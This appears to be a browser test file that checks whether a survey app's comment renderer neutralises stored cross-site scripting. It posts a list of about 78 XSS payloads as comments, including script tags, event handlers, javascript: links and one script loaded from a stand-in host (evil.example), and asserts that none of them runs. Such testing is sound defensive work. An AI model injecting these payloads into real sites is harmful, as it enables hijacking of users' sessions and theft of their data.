"""Stored XSS: hostile comments, rendered on the finding page in Chromium, neither run nor leave
live markup behind.

The browser ignores the Content-Security-Policy here (`bypass_csp`): the policy is the second line
of defence, and this test checks the first, the Markdown renderer and nh3, on their own. A payload
that got through would run and be caught by the trap.
"""

import re
from urllib.parse import urlsplit

import pytest

from survey.discussion.comments import post_comment
from survey.discussion.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from survey.models import Role
from survey.surveys import find_survey
from tests.browser.conftest import TIMEOUT_MS
from tests.helpers.discussion import (
    FINDING,
    PAGE,
    SLUG,
    browser_of,
    cheap_passwords,
    comment_bodies,
    comment_ids,
    make_member,
    page_text,
    publish_demo_release,
)

pytestmark = pytest.mark.browser

PAYLOADS = [
    # script tags, in every spelling
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    '"><script>alert(5)</script>',
    "<<script>alert(6);//<</script>",
    "<script>alert(7)",  # unclosed
    # event handlers
    "<img src=x onerror=alert(8)>",
    "<img src=x onerror=alert(9)",  # broken tag
    "<body onload=alert(10)>",
    "<input autofocus onfocus=alert(11)>",
    "<details open ontoggle=alert(12)>x</details>",
    '<a href="https://example.org" onclick="alert(13)">onclick</a>',
    "<x onmouseover=alert(14)>hover me</x>",
    "<marquee onstart=alert(15)>m</marquee>",
    "<video><source onerror=alert(16)></video>",
    "<audio src=x onerror=alert(17)>",
    "'><svg/onload=alert(18)>",
    # SVG and MathML
    "<svg onload=alert(19)>",
    "<svg><script>alert(20)</script></svg>",
    '<svg><a xlink:href="javascript:alert(21)"><text y="20">svg link</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(22)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(23)>">',
    # iframes, objects, and other embedders
    '<iframe src="javascript:alert(24)"></iframe>',
    '<iframe srcdoc="<script>alert(25)</script>"></iframe>',
    "<iframe src=data:text/html,<script>alert(26)</script>>",
    '<object data="javascript:alert(27)"></object>',
    '<embed src="javascript:alert(28)">',
    '<form action="javascript:alert(29)"><button>go</button></form>',
    '<base href="javascript:alert(30)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(31)">',
    '<link rel="stylesheet" href="javascript:alert(32)">',
    # javascript: and data: in HTML links
    '<a href="javascript:alert(33)">plain</a>',
    '<a href="jav&#x09;ascript:alert(34)">tab entity</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(35)">dec</a>',
    '<a href=" javascript:alert(36)">leading space</a>',
    '<a href="java&#0000115;cript:alert(37)">zero padded</a>',
    '<a href="data:text/html,<script>alert(38)</script>">data</a>',
    '<IMG SRC="javascript:alert(39);">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNDApPg==">',
    # javascript: and data: in Markdown links
    "[markdown](javascript:alert(41))",
    "[mixed case](JaVaScRiPt:alert(42))",
    "[entity](jav&#x61;script:alert(43))",
    "[named entity](javascript&colon;alert(44))",
    "[hex start](&#x6A;avascript:alert(45))",
    "[angle](<javascript:alert(46)>)",
    "[space]( javascript:alert(47))",
    "[vbscript](vbscript:msgbox(48))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg0OSk8L3NjcmlwdD4=)",
    "[data svg](data:image/svg+xml,<svg onload=alert(50)>)",
    "![image](javascript:alert(51))",
    '![image](x" onerror="alert(52))',
    # link titles with quotes
    '[title](https://example.org "a\\" onmouseover=\\"alert(53)")',
    "[title](https://example.org 'x\" onmouseover=\"alert(54)')",
    '[quote in url](https://example.org/"onmouseover="alert(55))',
    # autolinks and reference-style links
    "<javascript:alert(56)>",
    "<data:text/html,<script>alert(57)</script>>",
    "[reference]\n\n[reference]: javascript:alert(58)",
    '[reference title][r]\n\n[r]: https://example.org "\\" onclick=\\"alert(59)"',
    "[mailto](mailto:a@example.org?body=<script>alert(60)</script>)",
    # HTML comments
    "<!-- <script>alert(61)</script> -->",
    "<!--><img src=x onerror=alert(62)>-->",
    "--><script>alert(63)</script><!--",
    # CSS
    '<div style="background:url(javascript:alert(64))">css url</div>',
    '<div style="width: expression(alert(65))">css expression</div>',
    "<style>@import 'javascript:alert(66)';</style>",
    '<p style="behavior: url(#default#time2)" onbegin="alert(67)">behaviour</p>',
    # entities, escapes, code
    "&lt;script&gt;alert(68)&lt;/script&gt;",
    "&#60;script&#62;alert(69)&#60;/script&#62;",
    "\\<script>alert(70)</script>",
    "`<script>alert(71)</script>`",
    "```html\n<script>alert(72)</script>\n```",
    "> <img src=x onerror=alert(73)>\n> quoted",
    "- <svg onload=alert(74)>\n- list",
    "javascript:alert(75) as plain text",
    '<a href="\x01javascript:alert(76)">control character</a>',
    "[percent](java%0ascript:alert(77))",
    '<img src=x onerror="window.__xss.push(78)">',
]
SAFE_SCHEMES = {"http", "https", "mailto"}
# Never in a comment, whatever the renderer's list of allowed tags says.
FORBIDDEN_TAGS = {"script", "img", "svg", "iframe", "style", "object", "embed", "form", "input",
                  "button", "base", "meta", "link", "math", "video", "audio", "source", "frame",
                  "noscript", "template", "textarea", "select", "details"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc",
                  "background", "poster"}
TRAP = """
window.__xss = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => { window.__xss.push(name + ":" + args.join(",")); };
}
"""


def test_payloads_are_many_and_of_many_kinds():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


@pytest.fixture
def hostile_thread(app, monkeypatch):
    """Every payload as a comment on the finding: 15 threads, the rest replies and replies to
    replies, so that all of them are on the first page."""
    cheap_passwords(monkeypatch)
    publish_demo_release()
    author = make_member("mallory@example.org", Role.MODERATOR, "Mallory")
    survey = find_survey(SLUG)
    comments = []
    for number, payload in enumerate(PAYLOADS):
        parent = None
        if number >= 15:
            parent = comments[number % 15] if number < 45 else comments[15 + number % 30]
        comments.append(post_comment(author, survey, FINDING, 1, payload,
                                     parent.id if parent else None))
    return comments


def test_stored_payloads_neither_run_nor_leave_live_markup(app, browser, live_url,
                                                           hostile_thread):
    html = page_text(browser_of(app))
    assert sorted(comment_ids(html)) == sorted(c.id for c in hostile_thread)
    bodies = comment_bodies(html)
    assert len(bodies) == len(PAYLOADS)
    for body, payload in zip(bodies, payloads_in_page_order(html, hostile_thread), strict=True):
        assert_inert(body, payload)

    context = browser.new_context(bypass_csp=True)
    context.set_default_timeout(TIMEOUT_MS)
    try:
        page = context.new_page()
        # Nothing leaves the machine, whatever a payload asks for.
        page.route(re.compile(r"^(?!http://127\.0\.0\.1[:/])"), lambda route: route.abort())
        dialogs = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.add_init_script(TRAP)
        page.goto(live_url + PAGE, wait_until="load")
        assert page.locator(".comment-body").count() == len(PAYLOADS)
        # Stir every element of the comments as a reader would: hover, focus, toggle.
        page.evaluate("""() => {
          for (const element of document.querySelectorAll('.comment-body, .comment-body *')) {
            for (const type of ['mouseover', 'mouseenter', 'focus', 'toggle', 'click']) {
              if (type === 'click' && element.closest('a')) continue;  // would leave the page
              element.dispatchEvent(new MouseEvent(type, {bubbles: false}));
            }
          }
        }""")
        page.wait_for_timeout(300)
        assert dialogs == []
        assert page.evaluate("window.__xss") == []
        live = page.evaluate("""() => [...document.querySelectorAll('.comment-body *')].map(
          element => ({tag: element.tagName.toLowerCase(),
                       attributes: element.getAttributeNames(),
                       protocol: element.tagName === 'A' ? element.protocol : null}))""")
    finally:
        context.close()
    assert live, "the comments rendered no elements at all"
    for element in live:
        assert element["tag"] not in FORBIDDEN_TAGS and element["tag"] in ALLOWED_TAGS, element
        assert not any(name.startswith("on") for name in element["attributes"]), element
        assert set(element["attributes"]) <= ALLOWED_ATTRIBUTES.get(element["tag"], set()) | {
            "rel"}, element
        if element["protocol"] is not None:
            assert element["protocol"].rstrip(":") in SAFE_SCHEMES, element


def payloads_in_page_order(html, comments):
    """The payloads in the order the page shows their comments."""
    by_id = {c.id: c.body for c in comments}
    return [by_id[i] for i in comment_ids(html)]


def assert_inert(body, payload):
    """A comment body holds only allowed tags and attributes, and only safe links."""
    for kind, name, attributes in body:
        if kind == "comment":
            pytest.fail(f"an HTML comment survived: {payload!r}")
        if kind != "start":
            continue
        assert name not in FORBIDDEN_TAGS and name in ALLOWED_TAGS, (name, payload)
        for attribute, value in attributes:
            assert not attribute.startswith("on"), (attribute, payload)
            assert attribute != "style", payload
            assert attribute in ALLOWED_ATTRIBUTES.get(name, set()) | {"rel"}, (attribute,
                                                                                payload)
            if attribute in URL_ATTRIBUTES:
                # Browsers drop leading spaces and control characters, tabs and newlines.
                cleaned = re.sub(r"[\x00-\x20]", "", value)
                scheme = urlsplit(cleaned).scheme.lower()
                assert scheme in SAFE_SCHEMES or not scheme, (value, payload)
            if attribute == "rel":
                assert value == "nofollow ugc noopener", payload
